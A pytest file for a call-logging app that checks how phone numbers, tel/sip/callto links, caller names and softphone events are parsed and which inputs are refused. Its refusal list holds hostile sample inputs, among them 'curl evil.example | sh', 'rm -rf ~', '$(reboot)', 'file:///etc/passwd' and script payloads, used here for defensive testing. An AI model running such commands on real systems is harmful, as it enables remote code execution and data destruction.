"""Numbers, links and softphone events: what is accepted, what it becomes, what is refused."""

from __future__ import annotations

import pytest

from callnotes import instance
from callnotes.domain.call_events import (
    CallEvent,
    EventKind,
    event_from_arguments,
    event_from_twinkle,
)
from callnotes.domain.call_links import (
    MAX_NAME_CHARS,
    MalformedEventError,
    clean_name,
    parse_target,
    sip_display_name,
)
from callnotes.domain.calls import CallDirection
from callnotes.domain.phones import normalise_number

# (input as a softphone, a PBX client or a browser sends it, source, E.164 with region DE)
ACCEPTED = [
    ("0301234567", "cli", "+49301234567"),
    ("030 1234567", "cli", "+49301234567"),
    ("(030) 123-45.67", "cli", "+49301234567"),
    ("+49 30 1234567", "cli", "+49301234567"),
    ("0049301234567", "cli", "+49301234567"),
    ("tel:+49-30-1234567", "tel", "+49301234567"),
    ("TEL:+49.30.1234567", "tel", "+49301234567"),
    ("tel:+1-201-555-0123;ext=12", "tel", "+12015550123"),
    ("tel:1234567;phone-context=+49-30", "tel", "+49301234567"),
    ("tel:%2B49301234567", "tel", "+49301234567"),
    ("tel://+49301234567", "tel", "+49301234567"),
    ("sip:0301234567@pbx.example;user=phone", "sip", "+49301234567"),
    ("sip:+49301234567@pbx.example:5060;transport=tcp?subject=hello", "sip", "+49301234567"),
    ("sips:0301234567:secret@pbx.example", "sip", "+49301234567"),
    ("sip:0301234567", "sip", "+49301234567"),
    ("callto://+49301234567/", "callto", "+49301234567"),
    ("callto:+49 30 1234567", "callto", "+49301234567"),
    ("callto://%2B49301234567", "callto", "+49301234567"),
    ("callnotes://call?number=030%201234567", "link", "+49301234567"),
    ("callnotes:call?number=%2B49301234567&event=ended", "link", "+49301234567"),
    ("CALLNOTES://Call/?Number=0301234567", "link", "+49301234567"),
    ("callnotes://call?number=sip%3A0301234567%40pbx", "link", "+49301234567"),
    ("callnotes://call?number=0301234567&extra=ignored#fragment", "link", "+49301234567"),
]

WITHHELD = ["", "anonymous", "Anonymous", "unknown", "sip:anonymous@anonymous.invalid", "tel:"]

# Hostile or broken input: refused with a sentence that never repeats the input.
REFUSED = [
    "javascript:alert(1)",
    "JavaScript:alert(document.cookie)",
    "file:///etc/passwd",
    "http://evil.example/?number=0301234567",
    "data:text/html,<script>alert(1)</script>",
    "0301234567; rm -rf ~",
    "$(reboot)",
    "`id`",
    "0301234567 && curl evil.example | sh",
    "030|1234567",
    "0301234567 > /etc/motd",
    "030\x001234567",
    "030\n1234567",
    "\x1b[31m0301234567",
    "1" * 10_000,
    "tel:" + "1" * 10_000,
    "callnotes://call?number=" + "9" * 5_000,
    "٠٣٠١٢٣٤٥٦٧",  # Arabic-Indic digits
    "０３０１２３４５６７",  # fullwidth digits
    "³⁰¹²³⁴⁵⁶⁷",  # superscripts: isdigit() but not digits
    "030 1234567 ext 12",
    "+",
    "()",
    "+49+301234567",
    "12345678901234567890123",  # more digits than any number
    "tel:+4930;ext=x",
    "tel:%00",
    "tel:%ff%fe",
    "tel:030%0A1234567",
    "callnotes://call?number=1&number=2",
    "callnotes://evil?number=0301234567",
    "callnotes://call?number=callnotes://call%3Fnumber%3D1",
    "callnotes://call?number=0301234567&event=hangup",
    "callnotes://call?number=0301234567&direction=sideways",
    "callnotes://call?number=%ff",
    "callnotes://call?" + "&".join(f"k{n}=v" for n in range(40)),
    "sip:alice@example.com",
    "callto://skype.name/",
    "sip:" + "1" * 30 + "@pbx",
]


@pytest.mark.parametrize(("text", "source", "e164"), ACCEPTED)
def test_numbers_and_links_become_the_same_e164_number(text: str, source: str, e164: str) -> None:
    target = parse_target(text)
    assert target.source == source
    assert set(target.number) <= set("+0123456789")
    assert normalise_number(target.number, "DE") == e164


@pytest.mark.parametrize("text", WITHHELD)
def test_a_withheld_number_is_empty_not_an_error(text: str) -> None:
    assert parse_target(text).number == ""


@pytest.mark.parametrize("text", REFUSED, ids=lambda t: repr(t[:30]))
def test_hostile_and_malformed_input_is_refused_without_echoing_it(text: str) -> None:
    with pytest.raises(MalformedEventError) as caught:
        parse_target(text)
    message = str(caught.value)
    assert message.endswith(".")
    assert len(message) < 120
    assert all(ch.isprintable() for ch in message)
    for fragment in ("rm -rf", "reboot", "alert", "evil", "passwd", "alice", "9999"):
        assert fragment not in message


def test_a_link_keeps_its_name_event_and_direction() -> None:
    target = parse_target(
        "callnotes://call?number=%2B442079460321&name=Dana%20Whitfield&event=ANSWERED"
        "&direction=outbound"
    )
    assert (target.number, target.name, target.event, target.direction) == (
        "+442079460321",
        "Dana Whitfield",
        "answered",
        "outbound",
    )


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("Dana Whitfield", "Dana Whitfield"),
        ('"Dana Whitfield"', "Dana Whitfield"),
        ("  Dana \t\n Whitfield  ", "Dana Whitfield"),
        ("Dana\x00\x07\x1b[31m Whitfield", "Dana [31m Whitfield"),
        ("Dana\u202eeltihW", "Dana eltihW"),  # a right-to-left override cannot flip the name
        ("Zoë 👩🏽‍💻 Müller", "Zoë 👩🏽‍💻 Müller"),
        ("سارة أحمد", "سارة أحمد"),
        ("x" * 10_000, "x" * (MAX_NAME_CHARS - 1) + "…"),
    ],
)
def test_names_are_cleaned_and_capped_never_refused(raw: str, shown: str) -> None:
    assert clean_name(raw) == shown


@pytest.mark.parametrize(
    ("header", "name"),
    [
        ('"Dana Whitfield" <sip:+442079460321@pbx>', "Dana Whitfield"),
        ('"Dana \\"DW\\" Whitfield" <sip:1@pbx>', 'Dana "DW" Whitfield'),
        ("Dana Whitfield <sip:1@pbx>", "Dana Whitfield"),
        ("<sip:1@pbx>", ""),
        ("sip:1@pbx", ""),
        ("", ""),
    ],
)
def test_sip_display_names(header: str, name: str) -> None:
    assert sip_display_name(header) == name


def test_microsip_form_options_first_number_last() -> None:
    event = event_from_arguments(["030 1234567"], event="answered", source="microsip")
    assert event == CallEvent(EventKind.ANSWERED, number="0301234567", source="microsip")


def test_without_an_event_the_call_is_ringing_and_options_win_over_the_link() -> None:
    assert event_from_arguments(["0301234567"]).kind is EventKind.RINGING
    event = event_from_arguments(
        ["callnotes://call?number=0301234567&event=ringing&name=From%20link"],
        event="ended",
        name="From option",
    )
    assert (event.kind, event.name, event.source) == (EventKind.ENDED, "From option", "link")


def test_one_number_only() -> None:
    with pytest.raises(MalformedEventError, match="one number"):
        event_from_arguments(["030", "1234567"])


TWINKLE_INCOMING = {
    "SIP_FROM_USER": "+442079460321",
    "SIP_FROM_HOST": "pbx.example",
    "SIP_FROM": '"Dana Whitfield" <sip:+442079460321@pbx.example>',
    "SIP_TO_USER": "agent7",
    "SIP_TO": "<sip:agent7@pbx.example>",
}


@pytest.mark.parametrize(
    ("trigger", "kind", "direction"),
    [
        ("in_call", EventKind.RINGING, CallDirection.INBOUND),
        ("in_call_answered", EventKind.ANSWERED, CallDirection.INBOUND),
        ("in_call_failed", EventKind.ENDED, CallDirection.INBOUND),
        ("local_release", EventKind.ENDED, CallDirection.INBOUND),
        ("remote_release", EventKind.ENDED, CallDirection.INBOUND),
    ],
)
def test_twinkle_incoming_triggers(trigger: str, kind: EventKind, direction: CallDirection) -> None:
    event = event_from_twinkle({**TWINKLE_INCOMING, "TWINKLE_TRIGGER": trigger})
    assert (event.kind, event.direction, event.source) == (kind, direction, "twinkle")
    assert event.number == "+442079460321"
    if kind is not EventKind.ENDED:
        assert event.name == "Dana Whitfield"


def test_twinkle_outgoing_calls_name_the_other_party_in_sip_to() -> None:
    env = {
        "TWINKLE_TRIGGER": "out_call_answered",
        "SIP_FROM_USER": "agent7",
        "SIP_TO_USER": "0301234567",
        "SIP_TO": '"Helpdesk" <sip:0301234567@pbx>',
    }
    event = event_from_twinkle(env)
    assert (event.kind, event.direction) == (EventKind.ANSWERED, CallDirection.OUTBOUND)
    assert (event.number, event.name) == ("0301234567", "Helpdesk")


def test_twinkle_release_keeps_both_sides_as_candidates() -> None:
    env = {
        "TWINKLE_TRIGGER": "remote_release",
        "SIP_FROM_USER": "030111222",
        "SIP_TO_USER": "0301234567",
    }
    assert event_from_twinkle(env).numbers == ("030111222", "0301234567")
    named = {
        "TWINKLE_TRIGGER": "local_release",
        "SIP_FROM_USER": "agent7",
        "SIP_TO_USER": "030 1234567",
    }
    assert event_from_twinkle(named).numbers == ("0301234567",)


@pytest.mark.parametrize(
    "env",
    [
        {},
        {"TWINKLE_TRIGGER": "registration_failed"},
        {"TWINKLE_TRIGGER": "in_call", "SIP_FROM_USER": "0301234567; reboot"},
        {"TWINKLE_TRIGGER": "in_call", "SIP_FROM_USER": "x" * 10_000},
    ],
)
def test_twinkle_environment_refused(env: dict[str, str]) -> None:
    with pytest.raises(MalformedEventError):
        event_from_twinkle(env)


def test_events_survive_the_trip_over_the_socket() -> None:
    event = CallEvent(
        EventKind.ENDED,
        number="+442079460321",
        name="Zoë 👩🏽‍💻",
        source="twinkle",
        direction=CallDirection.OUTBOUND,
        other_numbers=("0301234567",),
    )
    line = instance.encode(event.as_message())
    assert line.endswith(b"\n") and line.isascii()
    assert CallEvent.from_message(instance.decode(line.rstrip(b"\n"))) == event


@pytest.mark.parametrize(
    "message",
    [
        {"type": "event", "kind": "exploded", "number": "030"},
        {"type": "event", "kind": "ringing", "number": ["030"]},
        {"type": "event", "kind": "ringing", "number": "030; reboot"},
        {"type": "event", "kind": "ringing", "other_numbers": ["1"] * 100},
        {"type": "event", "kind": "ringing", "direction": "sideways"},
    ],
)
def test_events_from_the_socket_are_checked_again(message: dict[str, object]) -> None:
    with pytest.raises(MalformedEventError):
        CallEvent.from_message(message)


@pytest.mark.parametrize(
    "line",
    [
        b"",
        b"not json",
        b"\xff\xfe",
        b"[1, 2]",
        b'{"type": "event"}',  # no version
        b'{"v": 2, "type": "show"}',
        b'{"v": 1, "type": "rm -rf"}',
        b'{"v": 1, "type": "show", "pad": "' + b"x" * 10_000 + b'"}',
    ],
)
def test_lines_that_are_not_messages_are_refused(line: bytes) -> None:
    with pytest.raises(instance.MalformedMessageError):
        instance.decode(line)
